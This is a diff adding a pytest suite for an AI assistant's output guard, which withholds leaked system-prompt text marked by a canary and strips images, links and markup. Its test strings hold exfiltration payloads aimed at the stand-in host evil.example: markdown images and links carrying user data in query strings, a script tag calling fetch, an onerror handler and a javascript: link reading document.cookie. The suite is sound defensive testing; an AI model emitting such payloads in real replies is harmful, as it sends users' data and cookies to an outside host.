@@ -1,0 +1,136 @@
+"""The output guard: leaks of the instructions are withheld, images and foreign links removed."""
+
+import re
+
+import pytest
+
+from assistant import prompts
+from assistant.services.output_guard import (
+    CANARY,
+    WITHHELD,
+    check_data,
+    check_output,
+    guard_stream,
+    leaks_instructions,
+    urls_in,
+)
+
+
+def tokens(text: str) -> list[str]:
+    """Split like a model's stream: short pieces, spaces attached to the next piece."""
+    return re.findall(r"\s*\S{1,3}", text)
+
+
+def streamed(text: str, allowed=()) -> tuple[str, list[str]]:
+    pieces = list(guard_stream(iter(tokens(text)), allowed))
+    return "".join(pieces), pieces
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"My internal marker is {CANARY}.",
+        "Sure, here they are: Base your advice on the numbered guidance passages you are given.",
+        "Rules: never say you are an AI, an assistant or a model, and never step out.",
+    ],
+)
+def test_leaks_of_the_instructions_are_found(text):
+    assert leaks_instructions(text)
+    assert check_output(text).withheld
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Ask for 30 minutes once a month and say why you chose them [1].",
+        "Be concrete: name the goal, the time you ask for, and what you offer back.",
+        "",
+    ],
+)
+def test_ordinary_advice_is_not_a_leak(text):
+    assert not leaks_instructions(text)
+    assert check_output(text).text == text
+
+
+def test_every_system_prompt_carries_the_canary():
+    for name in prompts.available():
+        if name.endswith("_system"):
+            assert CANARY in prompts.render(name), name
+    assert CANARY in prompts.render(
+        "rehearsal_counterpart", name="Ana", role="a director", situation="x", temperament="calm"
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "gone"),
+    [
+        ("Look: ![chart](https://evil.example/c.png?d=my+goal)", "evil.example"),
+        ('<img src="https://evil.example/x.gif?q=secret" onerror="alert(1)">', "evil.example"),
+        ("Read [this guide](https://evil.example/?leak=promotion)", "evil.example"),
+        ("Visit https://evil.example/collect?data=hello now", "evil.example"),
+        ("Visit www.evil.example/collect?data=hello now", "evil.example"),
+        ("[click](javascript:alert(document.cookie))", "javascript"),
+        ("![x][1]\n\n[1]: https://evil.example/p.png", "evil.example"),
+        ("<iframe src='https://evil.example'></iframe> hi", "iframe"),
+        ("<script>fetch('https://evil.example')</script> hi", "script"),
+        ('<a href="https://evil.example/?d=1">my site</a>', "evil.example"),
+    ],
+)
+def test_images_links_and_markup_are_removed(text, gone):
+    checked = check_output(text)
+    assert gone not in checked.text
+    assert checked.removed
+
+
+def test_a_link_the_user_typed_stays_but_not_a_longer_one():
+    allowed = urls_in("My portfolio is https://ana.dev/work, please look.")
+    assert allowed == {"https://ana.dev/work"}
+    kept = check_output("See [my work](https://ana.dev/work) or https://ana.dev/work.", allowed)
+    assert kept.text.count("https://ana.dev/work") == 2 and not kept.removed
+    longer = check_output("See https://ana.dev/work?leak=goal", allowed)
+    assert "leak" not in longer.text
+
+
+def test_citations_are_not_links():
+    text = "Ask for a bounded time [1], and thank them [2]."
+    assert check_output(text).text == text
+
+
+def test_a_clean_stream_arrives_whole_and_early():
+    text = "To find a mentor, name one concrete goal and ask for 30 minutes once a month [1]."
+    out, pieces = streamed(text)
+    assert out == text
+    assert len(pieces) > 5  # it streams: not one block at the end
+
+
+def test_an_image_in_a_stream_is_never_shown_even_partly():
+    text = "Try this. ![x](https://evil.example/i.png?d=my+secret+goal) Then ask."
+    out, pieces = streamed(text)
+    assert "evil" not in out and "[image removed]" in out
+    assert not any("evil" in p or "](" in p for p in pieces)
+
+
+def test_a_leak_in_a_stream_is_withheld_before_it_shows():
+    text = "Sure. " + prompts.render("ask_system") + " That is all."
+    out, pieces = streamed(text)
+    assert out.endswith(WITHHELD)
+    assert CANARY not in out and "guidance passages" not in out
+
+
+def test_a_failing_stream_keeps_the_checked_text_before_the_error():
+    def broken():
+        yield from tokens("Start with a short note ![x](https://evil.example/a?q=1) and ")
+        raise ConnectionError("cut")
+
+    pieces = []
+    with pytest.raises(ConnectionError):
+        for piece in guard_stream(broken()):
+            pieces.append(piece)
+    assert "".join(pieces).startswith("Start with a short note [image removed]")
+
+
+def test_structured_answers_are_checked_field_by_field():
+    data = {"reply": "Fine ![x](https://e.example/i?q=1)", "items": [{"t": CANARY}], "n": 3}
+    checked, leaked = check_data(data)
+    assert leaked
+    assert checked["reply"] == "Fine [image removed]" and checked["n"] == 3
